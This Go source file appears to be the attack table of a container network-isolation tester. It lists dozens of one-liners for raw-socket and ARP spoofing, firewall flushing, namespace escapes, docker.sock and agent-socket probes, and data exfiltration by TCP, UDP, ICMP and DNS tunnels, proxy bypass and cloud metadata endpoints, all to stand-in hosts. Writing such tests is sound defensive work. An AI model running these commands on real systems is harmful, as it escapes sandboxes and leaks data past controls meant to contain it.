package main

// attackTable is what is tried, from one box for each user, all of it.
func attackTable() []attack {
	table := []attack{
		// What might tear a hole.
		{id: "A11", try: "a raw or a packet socket", with: "python", line: `python3 -c 'import socket as s; s.socket(s.AF_INET, s.SOCK_RAW, 1)'`},
		{id: "A11", try: "a raw or a packet socket", with: "python", line: `python3 -c 'import socket as s; s.socket(s.AF_PACKET, s.SOCK_RAW)'`},
		{id: "A11", try: "a lie to a neighbour about who has an address (ARP)", with: "scapy", line: `python3 -c 'from scapy.all import ARP, Ether, sendp; sendp(Ether(dst="ff:ff:ff:ff:ff:ff")/ARP(op=2, psrc="'$GW'", pdst="'$GW'"), iface="eth0")'`},
		{id: "F10", try: "a capability", with: "bash", rootMay: true, line: "grep '^Cap[A-Z][a-z]*:.*[1-9a-f]' /proc/self/status"},
		{id: "F10", try: "a way to gain capabilities", with: "bash", line: "grep '^NoNewPrivs:.*0' /proc/self/status"},
		{id: "F10", try: "another user's files, or being another user", with: "chown", rootMay: true, line: "touch /tmp/own.$M && chown 1234 /tmp/own.$M"},
		{id: "F10", try: "another user's files, or being another user", with: "python", rootMay: true, line: "python3 -c 'import os; os.setuid(1234)'"},
		{id: "F15", try: "a device, or a socket to the hypervisor", with: "mknod", line: "mknod /tmp/null.$M c 1 3"},
		{id: "F15", try: "a device, or a socket to the hypervisor", with: "python", line: "python3 -c 'import socket; socket.socket(40, socket.SOCK_STREAM)'", control: sysAdmin},
		{id: "A12", try: "taking the walls down", with: "iptables", line: "iptables -F OUTPUT && iptables -P OUTPUT ACCEPT", control: netAdmin},
		{id: "A12", try: "taking the walls down", with: "iptables", line: "iptables -t nat -F", control: netAdmin},
		{id: "A12", try: "taking the walls down", with: "nft", line: "nft flush ruleset", control: netAdmin},
		{id: "A12", try: "another route, address or link", with: "ip", line: "ip route replace 198.51.100.0/24 dev eth0", control: netAdmin},
		{id: "A12", try: "another route, address or link", with: "ip", line: "ip addr add 192.0.2.2/32 dev eth0", control: netAdmin},
		{id: "A12", try: "another route, address or link", with: "ip", line: "ip link add av-one type veth peer name av-two", control: netAdmin},
		{id: "A12", try: "another setting of the kernel's network", with: "bash", line: "echo 1 >/proc/sys/net/ipv4/ip_forward", control: sysAdmin},
		{id: "A14", try: "a network namespace of its own", with: "unshare", line: "unshare --user --map-root-user --net ip link set lo up", control: sysAdmin},
		{id: "A14", try: "a network namespace of its own", with: "unshare", line: "unshare --net true", control: sysAdmin},
		{id: "A14", try: "a network namespace of its own", with: "nsenter", line: "nsenter --target 1 --net true", control: sysAdmin},
		{id: "B15", try: "a container engine's socket", with: "bash", line: "ls /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock 2>/dev/null | grep .", control: generous, lacks: needs("/var/run/docker.sock")},
		{id: "B15", try: "a container engine's socket", with: "curl", line: "curl -sS -m 5 --unix-socket /var/run/docker.sock http://docker/version", control: generous, lacks: needs("/var/run/docker.sock")},
		{id: "B16", try: "the sockets of ssh, gpg, X11, Wayland, D-Bus and VS Code, by their variables", with: "env", line: "env | grep -E '^(SSH_AUTH_SOCK|SSH_AGENT_PID|GPG_AGENT_INFO|DISPLAY|XAUTHORITY|WAYLAND_DISPLAY|XDG_RUNTIME_DIR|DBUS_SESSION_BUS_ADDRESS|VSCODE_IPC_HOOK_CLI|VSCODE_GIT_IPC_HANDLE)='", control: generous},
		{id: "B16", try: "a unix socket of the host's without a file", with: "python", line: `python3 -c 'import os, socket as s; c = s.socket(s.AF_UNIX); c.connect("\0" + os.environ["ABSTRACT"]); c.sendall(os.environ["M"].encode())'`, sink: host, control: hostNet},

		// TCP.
		{id: "A1", try: "a connection of its own", with: "bash", line: "echo $M >/dev/tcp/$S/443", sink: internet},
		{id: "A1", try: "a connection of its own", with: "socat", line: "echo $M | env -i socat -t 2 - TCP:$S:22", sink: internet},
		{id: "A1", try: "a connection of its own", with: "ncat", line: "echo $M | ncat -w 5 $S 25", sink: internet},
		{id: "A1", try: "a connection of its own", with: "nmap", line: "nmap -n -Pn --max-retries 0 -sT -p $P $S", sink: internet, mark: toPort},
		{id: "A1", try: "a connection whose first packet brings data (fast open)", with: "python", line: `python3 -c 'import os, socket as s; s.socket().sendto(os.environ["M"].encode(), s.MSG_FASTOPEN, (os.environ["S"], 443))'`, sink: internet},
		{id: "A1", try: "a connection by several paths (MPTCP)", with: "python", line: `python3 -c 'import os, socket as s; c = s.socket(s.AF_INET, s.SOCK_STREAM, 262); c.connect((os.environ["S"], 443)); c.sendall(os.environ["M"].encode())'`, sink: internet, lacks: needsSocket(1, 262)},
		{id: "A2", try: "no proxy, by its variables and by its flag", with: "curl", line: "NO_PROXY='*' no_proxy='*' curl -m 5 http://$S:8080/$M", sink: internet},
		{id: "A2", try: "no proxy, by its variables and by its flag", with: "curl", line: "curl -m 5 --noproxy '*' http://$S:8080/$M", sink: internet},
		{id: "A2", try: "no proxy, by its variables and by its flag", with: "curl", line: "HTTPS_PROXY= https_proxy= HTTP_PROXY= http_proxy= ALL_PROXY= all_proxy= curl -m 5 http://$S:8080/$M", sink: internet},
		{id: "A2", try: "the attacker's own proxy", with: "curl", line: "HTTPS_PROXY=http://$S:3000 https_proxy=http://$S:3000 NO_PROXY= no_proxy= curl -m 5 https://$M.test/", sink: internet},
		{id: "A2", try: "the attacker's own proxy", with: "curl", line: "curl -m 5 --noproxy '' --proxy socks4a://$S:8080 http://$M.test/", sink: internet},
		{id: "A19", try: "DNS over TLS, HTTPS and QUIC", with: "socat", line: "echo $M | socat -t 2 - TCP:$S:853", sink: internet},
		{id: "A19", try: "DNS over TLS, HTTPS and QUIC", with: "curl", line: "curl -m 5 --noproxy '*' --doh-url https://$M.leak.test/dns-query http://other.test/", sink: internet},
		{id: "A19", try: "DNS over TLS, HTTPS and QUIC", with: "curl", line: "curl -m 5 --doh-url https://$M.leak.test/dns-query http://other.test/", sink: internet},
		{id: "A19", try: "DNS over TLS, HTTPS and QUIC", with: "python", line: datagram("AF_INET", "0", `os.environ["S"], 853`), sink: internet},

		// UDP and what is like it.
		{id: "A6", try: "a datagram to another port", with: "socat", line: "echo $M | socat - UDP:$S:443", sink: internet},
		{id: "A6", try: "a datagram to another port", with: "nmap", line: "nmap -n -Pn --max-retries 0 -sU --data-string $M -p $P $S", sink: internet},
		{id: "A6", try: "a datagram to another port", with: "hping3", line: "hping3 -c 1 --udp -p 123 --data 40 --sign $M $S", sink: internet},
		{id: "A6", try: "a datagram to another port", with: "scapy", line: `python3 -c 'import os; from scapy.all import IP, UDP, send; send(IP(dst=os.environ["S"])/UDP(dport=443)/os.environ["M"])'`, sink: internet},
		{id: "A6", try: "a datagram of another protocol (UDP-Lite)", with: "python", line: datagram("AF_INET", "136", `os.environ["S"], 443`), sink: internet, lacks: needsSocket(2, 136)},
		{id: "A11", try: "a first packet made by hand", with: "hping3", line: "hping3 -c 1 --syn -p $P $S", sink: internet, mark: toPort},
		{id: "A11", try: "a first packet made by hand", with: "nmap", line: "nmap -n -Pn --max-retries 0 -sS -p $P $S", sink: internet, mark: toPort},

		// ICMP. The first needs no right in an ordinary container.
		{id: "A7", try: "a ping with a payload", with: "python", line: pingSocket, sink: internet},
		{id: "A7", try: "a ping with a payload", with: "ping", line: "cp /usr/bin/ping /tmp/ping.$M && /tmp/ping.$M -c 1 -W 2 -p $X $S", sink: internet},
		{id: "A7", try: "a ping with a payload", with: "hping3", line: "hping3 -c 1 --icmp --data 40 --sign $M $S", sink: internet},
		{id: "A7", try: "a tunnel through pings", with: "ptunnel-ng", line: ptunnel("--unprivileged"), sink: internet, mark: magic},
		{id: "A7", try: "a tunnel through pings", with: "ptunnel-ng", line: ptunnel(""), sink: internet, mark: magic},

		// DNS.
		{id: "A16", try: "a query to the attacker's name server", with: "dig", line: "dig +tries=1 +time=2 @$D TXT $M.leak.test", sink: internet},
		{id: "A16", try: "a query to the attacker's name server", with: "dig", line: "dig +tries=1 +time=2 +tcp @$D $M.leak.test", sink: internet},
		{id: "A16", try: "a query to the attacker's name server", with: "python", line: `python3 -c 'import os, socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(` + question + `, (os.environ["D"], 53))'`, sink: internet},
		{id: "A16", try: "a tunnel through names", with: "dns2tcp", line: "timeout 8 dns2tcpc -z $M.leak.test $D", sink: internet},
		{id: "A16", try: "a tunnel through names", with: "iodine", line: "timeout 8 iodine -f -r -P x $D $M.leak.test", sink: internet, control: tunnelling, lacks: needs("/dev/net/tun")},
		{id: "A17", try: "a name through the engine's resolver", with: "getent", line: "getent hosts $M.leak.test", sink: queries},
		{id: "A17", try: "a name through the engine's resolver", with: "dig", line: "dig +tries=1 +time=2 @127.0.0.11 TXT $M.leak.test", sink: queries},
		{id: "A17", try: "a name through the engine's resolver", with: "dig", line: "dig +tries=1 +time=2 +tcp @127.0.0.11 $M.leak.test", sink: queries},
		{id: "A17", try: "a name through the engine's resolver", with: "dns2tcp", line: "timeout 8 dns2tcpc -z $M.leak.test 127.0.0.11", sink: queries},
		{id: "A17", try: "a name through the engine's resolver, at the port where it really listens", with: "dig", line: "dig +tries=1 +time=2 -p $((16#$(awk '$2 ~ /^0B00007F:/ { print substr($2, 10); exit }' /proc/net/udp))) @127.0.0.11 TXT $M.leak.test", sink: queries},
		{id: "A18", try: "a name that the proxy would have to look up", with: "curl", line: "curl -m 5 http://$M.leak.test/", sink: internet},
		{id: "A18", try: "a name that the proxy would have to look up", with: "socat", line: "socat -t 2 - TCP:$M.leak.test:443", sink: internet},

		// IPv6, for which no ordinary container has a way out either.
		{id: "A9", try: "IPv6", with: "curl", line: "curl -6 -g -m 5 --noproxy '*' http://[$S6]:8080/$M", sink: internet, control: hostNet, lacks: needs("/proc/net/if_inet6")},
		{id: "A9", try: "IPv6", with: "python", line: datagram("AF_INET6", "0", `os.environ["S6"], 443`), sink: internet, control: hostNet, lacks: needs("/proc/net/if_inet6")},
		{id: "A9", try: "IPv6", with: "ping", line: "cp /usr/bin/ping /tmp/ping.$M && /tmp/ping.$M -6 -c 1 -W 2 -p $X $S6", sink: internet, control: hostNet, lacks: needs("/proc/net/if_inet6")},

		// The host.
		{id: "B1", try: "a service of the host that listens on every address", with: "bash", line: "echo $M >/dev/tcp/$GW/$TCP", sink: host, control: inner},
		{id: "B1", try: "a service of the host that listens on every address", with: "curl", line: "curl -m 5 --noproxy '*' http://$GW:$TCP/$M", sink: host, control: inner},
		{id: "B1", try: "a service of the host that listens on every address", with: "socat", line: "echo $M | socat - UDP:$GW:$UDP", sink: host, control: inner},
		{id: "B1", try: "the host by broadcast and multicast", with: "socat", line: "echo $M | socat - UDP-DATAGRAM:255.255.255.255:$UDP,broadcast,so-bindtodevice=eth0", sink: host, control: inner},
		{id: "B1", try: "the host by broadcast and multicast", with: "socat", line: "echo $M | socat - UDP-DATAGRAM:224.0.0.1:$UDP,so-bindtodevice=eth0", sink: host, control: inner},
		{id: "B1", try: "a service of the host, by the address of IPv6 that its bridge gave itself", with: "python", line: linkLocal, sink: host, control: innerSix, lacks: needs("/proc/net/if_inet6")},
		{id: "B2", try: "the host by the engine's name for it", with: "curl", line: "curl -m 5 --noproxy '*' http://host.docker.internal:$TCP/$M", sink: host, control: inner},
		{id: "B2", try: "the host by the engine's name for it", with: "curl", line: "curl -m 5 http://host.docker.internal:$TCP/$M", sink: host, control: inner},
	}
	table = append(boxAttacks(), table...)
	for _, port := range []string{"53", "123", "443", "33434"} {
		table = append(table, attack{id: "A6", try: "a datagram to port 53, 123, 443 or a high one", with: "python", line: datagram("AF_INET", "0", `os.environ["S"], `+port), sink: internet})
	}
	for _, port := range []string{"22", "25", "3000", "5432", "6379", "8080"} {
		table = append(table,
			attack{id: "A3", try: "another port of an allowed host", with: "bash", line: "echo $M >/dev/tcp/$API/" + port, sink: internet},
			attack{id: "A3", try: "another port of an allowed host", with: "socat", line: "echo $M | socat -t 2 - TCP:$A:" + port, sink: internet})
	}
	for _, guest := range guests {
		table = append(table,
			attack{id: guest.id, try: guest.what, with: "curl", line: "curl -m 5 --noproxy '*' http://" + guest.address + "/$M", sink: internet},
			attack{id: guest.id, try: guest.what, with: "socat", line: "echo $M | socat - UDP:" + guest.address + ":80", sink: internet})
	}
	return table
}

// guests are addresses that mean something to a cloud or to a home.
var guests = []struct{ id, what, address string }{
	{"B3", "a cloud's metadata service", "169.254.169.254"},
	{"B3", "a cloud's metadata service", "168.63.129.16"},
	{"B3", "a cloud's metadata service", "100.100.100.200"},
	{"B2", "a machine of the local network", "192.168.213.77"},
}
